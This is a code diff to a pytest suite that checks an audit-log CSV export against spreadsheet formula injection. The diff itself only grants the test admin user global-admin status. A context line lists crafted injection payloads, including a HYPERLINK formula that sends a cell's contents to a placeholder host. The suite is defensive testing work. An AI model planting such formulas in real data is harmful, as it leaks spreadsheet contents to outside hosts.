@@ -17,7 +17,7 @@ CRAFTED = ["＝HYPERLINK(\"http://x.example/?\"&A1)", "＋1+1", "－2+3", "＠SU
 
 @pytest.mark.parametrize("crafted", CRAFTED)
 def test_audit_csv_cell_never_starts_like_a_formula(client, session, crafted):
-    factories.make_user(session, role="admin", username="formula-admin")
+    factories.make_user(session, role="admin", username="formula-admin", global_admin=True)
     factories.make_audit_event(session, actor=Actor.anonymous("1.2.3.4", username=crafted),
                                action="auth.sign_in", entity_type="user", entity_id=crafted)
     session.commit()
@@ -36,7 +36,7 @@ def test_audit_csv_cell_never_starts_like_a_formula(client, session, crafted):
 
 
 def test_plain_text_is_left_as_it_is(client, session):
-    factories.make_user(session, role="admin", username="formula-admin")
+    factories.make_user(session, role="admin", username="formula-admin", global_admin=True)
     factories.make_audit_event(session, actor=Actor.anonymous("1.2.3.4", username="naw-2=1"),
                                action="auth.sign_in", entity_type="user", entity_id=None)
     session.commit()
